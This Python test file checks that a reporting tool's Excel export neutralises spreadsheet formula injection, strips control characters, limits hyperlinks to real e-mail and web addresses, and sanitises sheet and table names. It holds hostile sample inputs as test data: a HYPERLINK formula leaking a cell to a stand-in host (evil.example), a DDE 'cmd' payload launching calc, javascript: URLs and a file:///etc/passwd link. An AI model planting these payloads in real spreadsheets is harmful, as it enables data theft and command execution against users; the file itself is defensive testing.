"""Safety of the workbook: record text never becomes a formula, forbidden characters are removed,
hyperlinks only for real e-mail addresses and websites, and sheet/table names follow Excel's rules."""

from __future__ import annotations

import copy
import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import python_calamine
from conftest import EXAMPLE
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from reporter.api.saved import load_file, validate_record
from reporter.dates import get_zone
from reporter.render.leveling import render_leveling
from reporter.render.xlsx import render_xlsx
from reporter.render.xlsx_cells import clean_text, link_target, write_value
from reporter.render.xlsx_sheets import safe_sheet_name, safe_table_name
from reporter.transform.model import ReportContext
from reporter.transform.report import build_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
CTX = ReportContext(as_of=date(2026, 11, 28))


def hostile_record(example_raw):
    raw = copy.deepcopy(example_raw)
    raw["companyName"] = HOSTILE[0]
    raw["doingBusinessAsName"] = HOSTILE[3]
    raw["bankContactName"] = "ctl\x01chars\x1f here\x0b"
    raw["regionsServed"] = [{"region": h} for h in HOSTILE]
    raw["marketsServed"] = [{"market": "a\x00b\x08c\ufffe"}]
    raw["companyContacts"][0]["contactName"] = HOSTILE[1]
    raw["companyContacts"][0]["contactEmail"] = "javascript:alert(1)//@example.com"
    raw["completedReferences"][0]["referenceContactEmail"] = HOSTILE[0]
    raw["certificates"][0]["agency"]["website"] = "javascript:alert(1)"
    raw["customQuestions"]["results"][0]["textResponse"] = HOSTILE[2]
    raw["csiCodesForWorkPerformed"][0]["codeDescription"] = HOSTILE[4]
    raw["riskNote"] = HOSTILE[6]
    return validate_record(raw, "hostile").model


def sheet_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml")}


def test_hostile_values_are_stored_as_text(example_raw):
    model = hostile_record(example_raw)
    data = render_xlsx(build_report(model, CTX))
    xml = sheet_xml(data)
    assert not any(re.search(r"<f[ >]", text) for text in xml.values())
    wb = openpyxl.load_workbook(io.BytesIO(data))
    regions = [c.value for c in wb["Regions"]["A"][1:]]
    assert regions == [h.replace("\r", "\n") for h in HOSTILE]  # XML readers turn CR into LF
    assert all(c.data_type == "s" for c in wb["Regions"]["A"][1:])
    summary = {r[0].value: r[1].value for r in wb["Summary"].iter_rows(min_row=2)}
    assert summary["Company"] == HOSTILE[0] and summary["Doing business as"] == HOSTILE[3]
    assert wb["Contacts"]["A2"].value == HOSTILE[1]
    company = {r[2].value: r[1].value for r in wb["Company"].iter_rows(min_row=2)}
    assert company["riskNote"] == HOSTILE[6]
    # A second reader agrees: text, not a computed value.
    cal = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert [r[0] for r in cal.get_sheet_by_name("Regions").to_python()[1:]] == [h.replace("\r", "\n") for h in HOSTILE]
    # The leveling workbook too.
    lev = render_leveling([build_report(model, CTX), build_report(model, CTX)])
    assert not any(re.search(r"<f[ >]", t) for t in sheet_xml(lev).values())
    assert openpyxl.load_workbook(io.BytesIO(lev))["Leveling"]["A2"].value == HOSTILE[0]


def test_illegal_control_characters_are_removed(example_raw):
    model = hostile_record(example_raw)
    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(build_report(model, CTX))))
    company = {r[2].value: r[1].value for r in wb["Company"].iter_rows(min_row=2)}
    assert company["bankContactName"] == "ctlchars here"
    assert wb["Markets"]["A2"].value == "abc"
    assert clean_text("tab\tnew\nline\rok") == "tab\tnew\nline\rok"
    assert clean_text("x" * 40000).__len__() == 32767


def test_literal_excel_escapes_survive_in_excel_readers():
    """Excel reads ``_x0041_`` in a string as "A"; a literal one is escaped as ``_x005F_x0041_``."""
    wb = Workbook()
    from reporter.render.xlsx_cells import set_text

    set_text(wb.active["A1"], "code _x0041_ end")
    buf = io.BytesIO()
    wb.save(buf)
    cal = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(buf.getvalue()))
    assert cal.get_sheet_by_index(0).to_python() == [["code _x0041_ end"]]


def test_hyperlinks_only_for_addresses_and_websites(example_raw):
    model = hostile_record(example_raw)
    data = render_xlsx(build_report(model, CTX))
    rels = "".join(t for n, t in sheet_xml(data).items() if "_rels" in n)
    for bad in ("javascript:", "file:", "evil.example"):
        assert bad not in rels
    assert not any(c.hyperlink for ws in openpyxl.load_workbook(io.BytesIO(data)) for r in ws.iter_rows() for c in r
                   if c.value and "javascript" in str(c.value))
    large = load_file(EXAMPLE.parent / "summit-electrical-large.json")[0].model
    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(build_report(large, CTX))))
    links = {(ws.title, c.value): c.hyperlink.target for ws in wb for row in ws.iter_rows() for c in row if c.hyperlink}
    assert links and all(t.startswith(("mailto:", "https://", "http://")) for t in links.values())
    assert {t for (sheet, _), t in links.items() if sheet == "Certificates"} <= {
        "https://" + c.agency.website for c in large.certificates if c.agency and c.agency.website} | {
        c.agency.website for c in large.certificates if c.agency and c.agency.website}
    ref = large.completedReferences[0].referenceContactEmail
    assert links[("References", ref)] == "mailto:" + ref
    assert link_target("ann@gr8.example.com", "email") == "mailto:ann@gr8.example.com"
    assert link_target("www.dot.gov", "url") == "https://www.dot.gov"
    assert link_target("https://dot.gov/dbe?x=1", "url") == "https://dot.gov/dbe?x=1"
    for value, kind in [("javascript:alert(1)", "url"), ("file:///etc/passwd", "url"), ("not a site", "url"),
                        ("a@b", "email"), ("=HYPERLINK(1)", "email"), ("ann@gr8.com", "text"),
                        ("javascript://x.com/%0aalert(1)", "url"), ("mailto:x@y.com", "email")]:
        assert link_target(value, kind) is None, value


def test_numbers_excel_cannot_hold_stay_exact_text():
    ws = Workbook().active
    zone = get_zone("UTC")
    write_value(ws["A1"], Decimal("12345678901234567.89"), "money", zone)
    write_value(ws["A2"], Decimal("NaN"), "number", zone)
    write_value(ws["A3"], Decimal("1.0000000000000000001"), "rate", zone)
    assert ws["A1"].value == "12345678901234567.89" and ws["A1"].data_type == "s"
    assert ws["A2"].data_type == "s"
    assert ws["A3"].value == 1.0


def test_sheet_names_follow_excels_rules():
    used: set[str] = set()
    assert safe_sheet_name("Summary", used) == "Summary"
    assert safe_sheet_name("SUMMARY", used) == "SUMMARY (2)"
    assert safe_sheet_name("History", used) == "History_"
    assert safe_sheet_name("'a/b:c*d?[e]\\'", used) == "a_b_c_d__e__"
    assert safe_sheet_name("", used) == "Sheet"
    long = safe_sheet_name("x" * 40, used)
    assert len(long) == 31 and len(safe_sheet_name("x" * 40, used)) == 31


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(min_size=0, max_size=40), min_size=1, max_size=8))
def test_any_text_gives_valid_unique_sheet_names(names):
    used: set[str] = set()
    out = [safe_sheet_name(n, used) for n in names]
    assert len({o.casefold() for o in out}) == len(out)
    for o in out:
        assert 0 < len(o) <= 31 and not re.search(r"[\[\]:*?/\\]", o)
        assert not o.startswith("'") and not o.endswith("'") and o.casefold() != "history"
        assert clean_text(o) == o


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(min_size=0, max_size=20), min_size=1, max_size=8))
def test_any_text_gives_valid_unique_table_names(names):
    used: set[str] = set()
    out = [safe_table_name(n, used) for n in names]
    assert len({o.casefold() for o in out}) == len(out)
    for o in out:
        assert re.fullmatch(r"[A-Za-z_][A-Za-z0-9_.]*", o)
        assert not re.fullmatch(r"[A-Za-z]{1,3}\d+|[Rr]\d*[Cc]\d*|[RrCc]", o)


def test_table_names_that_look_like_references_are_prefixed():
    used: set[str] = set()
    assert safe_table_name("A1", used) == "t_A1"
    assert safe_table_name("R1C1", used) == "t_R1C1"
    assert safe_table_name("c", used) == "t_c"
    assert safe_table_name("tbl1", used) == "t_tbl1"  # TBL1 is a cell on Excel's grid
    assert safe_table_name("insurance", used) == "insurance"
    assert safe_table_name("INSURANCE", used) == "INSURANCE_2"
